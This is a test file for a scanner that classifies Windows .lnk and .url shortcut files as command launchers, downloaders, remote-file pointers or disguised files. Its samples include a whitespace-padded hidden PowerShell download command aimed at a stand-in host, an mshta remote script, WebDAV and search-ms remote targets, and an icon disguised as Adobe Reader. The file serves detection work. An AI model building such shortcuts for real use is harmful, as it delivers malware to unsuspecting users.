import { Buffer } from 'node:buffer';

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { codesOf, lnk } from '../test-support.ts';

describe('a shortcut', () => {
  it.each([
    [{ target: '..\\Documents\\report.docx' }, []],
    [{ target: '..\\System32\\cmd.exe', arguments: '/c start calc' }, ['SHORTCUT_COMMAND']],
    [
      { target: '..\\powershell.exe', arguments: `${' '.repeat(300)}-w hidden iwr http://example.test/a -o a.exe` },
      ['SHORTCUT_DOWNLOADER'],
    ],
    [{ target: '..\\mshta.exe', arguments: 'https://example.test/a.hta' }, ['SHORTCUT_DOWNLOADER']],
    [{ target: '\\\\files.example.test@80\\DavWWWRoot\\a.exe' }, ['SHORTCUT_REMOTE']],
    [{ target: '\\\\server\\share\\plan.xlsx' }, []],
    [
      { target: '..\\cmd.exe', arguments: '/c a.bat', icon: 'C:\\Program Files\\Adobe\\AcroRd32.exe' },
      ['SHORTCUT_COMMAND', 'SHORTCUT_DISGUISED'],
    ],
  ])('%j', async (shortcut, codes) => {
    expect(await codesOf(lnk(shortcut))).toEqual([...codes, 'SHORTCUT']);
  });

  it('is disguised by its name too', async () => {
    const found = await codesOf(lnk({ target: 'cmd.exe' }), { names: ['invoice.pdf.lnk'] });
    expect(found).toContain('SHORTCUT_DISGUISED');
  });

  it('that is cut is unscannable', async () => {
    expect(await codesOf(lnk({ target: 'x' }).subarray(0, 40))).toEqual(['DOCUMENT_UNREADABLE']);
  });

  it('may hold anything', async () => {
    const start = lnk({}).subarray(0, 20);
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 60, maxLength: 200 }), async (rest) => {
        expect((await codesOf(Buffer.concat([start, rest]))).length).toBeGreaterThan(0);
      }),
      { numRuns: 200 },
    );
  });
});

describe('an Internet shortcut', () => {
  const url = (target: string): Promise<string[]> =>
    codesOf(`[InternetShortcut]\r\nURL=${target}\r\n`, { names: ['a.url'] });

  it.each([
    ['https://example.test/', []],
    ['file://192.0.2.7/share/a.exe', ['SHORTCUT_REMOTE']],
    ['\\\\files.example.test\\a.zip', ['SHORTCUT_REMOTE']],
    ['file:///C:/plan.xlsx', []],
    ['search-ms:query=invoice&crumb=location:\\\\192.0.2.7\\x', ['SHORTCUT_REMOTE']],
  ])('to %s', async (target, codes) => {
    expect(await url(target)).toEqual([...codes, 'SHORTCUT']);
  });
});
